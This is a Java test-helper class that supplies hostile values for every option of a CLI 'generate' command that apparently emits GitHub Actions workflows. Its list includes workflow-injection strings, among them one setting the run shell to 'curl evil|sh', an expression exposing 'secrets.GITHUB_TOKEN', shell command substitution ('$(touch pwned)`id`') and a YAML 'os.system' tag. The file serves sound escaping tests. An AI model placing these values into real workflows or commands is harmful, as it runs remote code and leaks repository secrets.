package io.imagefleet.cli;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.InvalidPathException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

/**
 * Hostile values for every option of {@code generate}: line breaks of every kind, comments,
 * expressions, quotes, backslashes, YAML indicators, workflow commands and Unicode. Shared by
 * {@code GenerateHostileValuesTest} and the actionlint IT.
 */
public final class HostileGenerateArgs {
  public static final List<String> VALUES =
      List.of(
          "x\nrun-name: ${{ github.event.issue.title }}\ndefaults:\n  run:\n    shell: curl evil|sh\n#",
          "x\r\non: push",
          "x\rjobs: {}",
          "x\n::error::y",
          "x\u2028run-name: evil",
          "x\u2029run-name: evil",
          "x\u0085run-name: evil",
          "x\u202Eevil",
          "x\ty",
          "x # not a comment",
          "#x",
          "${{ github.event.issue.title }}",
          "a${{ secrets.GITHUB_TOKEN }}",
          "it's \"quoted\"",
          "'",
          "back\\slash\\n",
          "données-数据集-ü-🚀",
          "x: y",
          "{a: b}",
          "[a]",
          "- item",
          "*alias",
          "&anchor x",
          "!!python/object:os.system",
          "%TAG ! x",
          "---",
          "...",
          "$(touch pwned)`id`;x",
          "a/b",
          "-o");

  /** Every option of generate that takes a value, and the positional benchmark. */
  public static final List<String> OPTIONS =
      List.of(
          "BENCHMARK",
          "--workers",
          "--batch-size",
          "--cache-mode",
          "--timeout-minutes",
          "--image-timeout-minutes",
          "--runner",
          "--n-limit",
          "--shards",
          "--dataset",
          "--split",
          "--image",
          "--base-mirror",
          "--action-ref",
          "--min-free-gb",
          "--build-min-free-gb",
          "--keep-storage-gb",
          "--template",
          "-o");

  private HostileGenerateArgs() {}

  /**
   * The command line feeding {@code value} to {@code option}; {@code dir} is a fresh directory that
   * holds a copy of the swe-bench template as the {@code --template} file.
   */
  public static List<String> argv(String option, String value, Path dir) throws IOException {
    List<String> argv = new ArrayList<>(List.of("generate"));
    switch (option) {
      case "BENCHMARK" -> argv.add(value);
      case "--template" -> {
        argv.addAll(List.of("swe-bench", "--template", dir + "/" + value));
        copyTemplate(dir, value);
      }
      case "-o" -> argv.addAll(List.of("swe-bench", "-o", dir + "/" + value));
      case "--action-ref" -> argv.addAll(List.of("swe-bench", option, "./" + value));
      default -> argv.addAll(List.of("swe-bench", option, value));
    }
    return argv;
  }

  private static void copyTemplate(Path dir, String name) throws IOException {
    try {
      Path file = dir.resolve(name);
      if (file.getParent().equals(dir)) {
        Files.copy(Path.of("workflows-templates/swe-bench.yml"), file);
      }
    } catch (InvalidPathException | IOException e) {
      // A name the file system refuses is simply a template that is not there.
    }
  }
}
